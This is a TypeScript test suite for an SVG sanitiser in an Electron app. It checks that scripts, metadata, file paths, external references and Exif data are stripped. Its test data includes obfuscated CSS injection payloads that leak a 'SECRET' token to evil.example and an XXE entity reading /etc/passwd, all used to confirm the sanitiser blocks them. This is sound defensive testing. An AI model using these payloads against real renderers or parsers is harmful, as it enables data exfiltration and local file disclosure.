import { describe, expect, it } from 'vitest';
import { readPicture, type SvgPicture } from '../../../electron/engine/picture/picture.ts';
import { exif, photoWith } from '../../support/jpeg.ts';
import { problemsOf } from '../../support/library.ts';

const HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">';
const read = (body: string, before = ''): SvgPicture => readPicture(new TextEncoder().encode(`${before}${HEAD}${body}</svg>`)) as SvgPicture;
const cleaned = (body: string, before = ''): string => read(body, before).source.replace(HEAD, '').replace('</svg>', '');

/** Each would bring the word into the file, or fetch something. */
const HOSTILE_STYLES = [
  '//*x*/* SECRET */ g{fill:red}',
  '/*/ SECRET */@im@import;port "http://evil.example/SECRET.css"; ',
  '@IMPORT "http://evil.example/SECRET.css";',
  '@import url(http://evil.example/SECRET);@media screen{g{fill:url(http://evil.example/SECRET)}}',
  '@font-face{src:url(http://evil.example/SECRET)}',
  'g{fill:image-set("http://evil.example/SECRET" 1x)}',
  'g{fill:u\\72l(http://evil.example/SECRET);stroke:\\75rl(http://evil.example/SECRET)}',
  'g{fill:u/**/rl(http://evil.example/SECRET)}',
  'g{fill:url("http://evil.example/SECRET");mask:src("http://evil.example/SECRET")}',
  'g{fill:İİİİurl(http://evil.example/SECRET)}',
  'g{fill:url(#a"SECRET/);stroke:url(SECRET}',
  'g[label="SECRET"],g:not(.SECRET){fill:red}.SECRET,SECRET,#SECRET{fill:red}',
  'g{background:SECRET;--a:SECRET;content:"SECRET";fill:"SECRET"}',
  '<!-- SECRET -->g{fill:red}',
  'g{fill:red}} SECRET',
  'g{fill:red{SECRET:SECRET}}',
];

describe('an SVG', () => {
  it.each([
    '<path id="a" class="b" d="M0 0L1 1" style="fill:url(#c)" marker-end="url(#m)"/><use href="#a"/><style>.b&gt;#a{stroke:red}</style>',
    '<defs><g id="a"><circle r="1"/></g></defs><use xlink:href="#a" href="#a"/>',
    '<style>g &gt; path,text.a{fill:red;font:bold 9px &quot;Source Sans 3&quot;,sans-serif}</style><g><path/></g><text class="a">x</text>',
    '<text class="a" xml:space="preserve" font-family="\'Noto Sans\', Überschrift">A &amp; B é<a><tspan dx="1 2">c</tspan></a></text><style>.a{fill:red}</style>',
    '<linearGradient id="g" gradientTransform="rotate(9)"><stop offset="50%" stop-color="rgb(1, 2, 3)"/></linearGradient><rect fill="url(#g) none" width="9"/>',
    '<g display="none"><linearGradient id="g"><stop/></linearGradient></g><rect fill="url(#g)" filter="blur(2px)"/>',
    '<clipPath id="c"><path display="inline"/></clipPath><filter id="f"><feFlood result="a" flood-color="#fff"/></filter><style>rect{clip-path:url(#c);filter:url(\'#f\')}</style><rect/>',
    `<image href="data:image/jpeg;base64,${photoWith([]).toString('base64')}"/>`,
  ])('keeps what is drawn: %s', (body) => {
    expect(cleaned(body)).toBe(body);
  });

  it.each([
    ['<g/><!-- /home/someone --><g/>', '<g/><g/>'],
    ['<metadata><rdf:RDF><a>Someone</a></rdf:RDF></metadata><g/>', '<g/>'],
    ['<?editor path="/home/someone"?><g/>', '<g/>'],
    ['<sodipodi:namedview a="b"><g/></sodipodi:namedview><g inkscape:export-filename="/home/someone" data-name="x" id="i"/>', '<g/>'],
    ['<script>go()</script><g onclick="go()"/><foreignObject><p>x</p></foreignObject>', '<g/>'],
    ['<image href="file:///home/someone/a.png" width="1"/><a href="https://example.org"><g/></a>', '<image width="1"/><a><g/></a>'],
    ['<use xlink:href="other.svg#a" x="1"/><image href="data:image/svg+xml,x"/>', '<use x="1"/><image/>'],
    ['<g style="fill:URL( \'/home/someone#a\' );stroke:url(#b)"/>', '<g style="fill:none;stroke:url(#b)"/>'],
    ['<style>/* note */@import "/home/x.css";.a{fill:url(x)}</style><g class="a"/>', '<style>.a{fill:none}</style><g class="a"/>'],
    ['<style><![CDATA[/* note */.a>.b{fill:red}]]></style><g class="a b someone"/>', '<style>.a&gt;.b{fill:red}</style><g class="a b"/>'],
    ['<text title="a &quot;b&quot;">A &amp; B</text><!---->', '<text>A &amp; B</text>'],
    ['<g xmlns="http://example.org/other"><g/></g><animate attributeName="href" to="/home/x"/><g/>', '<g/>'],
    ['<title>Someone</title><desc>/home/x</desc><g><title>x</title></g>someone<rect>someone</rect>', '<g/><rect/>'],
    ['<g docname="/home/x" filename="/home/x" label="x" aria-label="x" d="M0 0 /home/x" width="/home/x"/>', '<g d="M0 0 "/>'],
    ['<g style="-inkscape-x:/home/x;--y:/home/x;fill:red;stroke:/home/x;font:9px/1 /home/x" fill="\\/home"/>', '<g style="fill:red"/>'],
    [
      '<g display="none"><text>x</text></g><text style="display : none">x</text><g display="none" style="display:inline"/>',
      '<g display="none" style="display:inline"/>',
    ],
    [
      '<style>.h{display:none}</style><g class="h"><text>x</text></g><g style="display:inline" class="h"/>',
      '<style>.h{display:none}</style><g class="h" style="display:inline"/>',
    ],
    [
      '<defs><text>x</text><g id="a"/><path id="b"/></defs><symbol><text>x</text></symbol><use href="#b"/>',
      '<defs><path id="b"/></defs><use href="#b"/>',
    ],
    ['<switch><g requiredExtensions="http://example.org/home/x"><text>x</text></g><g/></switch>', '<switch><g/></switch>'],
  ])('loses what is not drawn: %s', (body, expected) => {
    expect(cleaned(body)).toBe(expected);
  });

  it.each(HOSTILE_STYLES)('loses notes and addresses in styles: %s', (css) => {
    const style = css.replace(/^[^{]*\{/, '').replace(/\}[^}]*$/, '');
    const { source } = read(`<style><![CDATA[${css}]]></style><g style="${style.replaceAll('"', '&quot;').replaceAll('<', '&lt;')}"/>`);
    expect(source).not.toMatch(/SECRET|evil|@|\/\*|\\/);
  });

  it('loses its declaration, with the entities of drawing programs in their places', () => {
    const declaration = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg"><!ENTITY file SYSTEM "/etc/passwd">]>';
    expect(cleaned('<g xmlns="&ns;"><text>&ns;</text></g>', declaration)).toBe(
      '<g xmlns="http://www.w3.org/2000/svg"><text>http://www.w3.org/2000/svg</text></g>',
    );
  });

  it('loses the metadata of pictures inside it', () => {
    const photo = photoWith([exif(1, 'SECRET')]).toString('base64');
    const { source } = read(`<image xlink:href="data:image/jpeg;base64,${photo}"/>`);
    const [, inside = ''] = /base64,([^"]*)"/.exec(source) ?? [];
    expect(Buffer.from(inside, 'base64')).toEqual(photoWith([]));
  });

  it.each<[string, string, string]>([
    ['that is not well-formed', '<g>', 'well-formed'],
    ['with an undefined entity', '<text>&nothing;</text>', 'well-formed'],
    ['with a picture inside that is turned', `<image href="data:image/jpeg;base64,${photoWith([exif(6)]).toString('base64')}"/>`, 'turned by Exif'],
    ['with a broken picture inside', `<image href="data:image/png;base64,${photoWith([]).subarray(0, 99).toString('base64')}"/>`, 'cut short'],
    ['that refers to itself', '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', 'refers to itself'],
  ])('%s is refused', async (_, body, message) => {
    const [problem] = await problemsOf(() => read(body));
    expect(problem).toMatchObject({ code: 'bad-picture', message: expect.stringContaining(message) });
  });

  it.each(['viewBox="0 0 0 0"', 'viewBox="0 0 1e300 1"', 'width="x" height="1"', ''])(
    'without a size that fits on paper is refused: %s',
    async (size) => {
      const [problem] = await problemsOf(() => readPicture(new TextEncoder().encode(`<svg ${size}></svg>`)));
      expect(problem?.code).toBe('bad-picture');
    },
  );
});
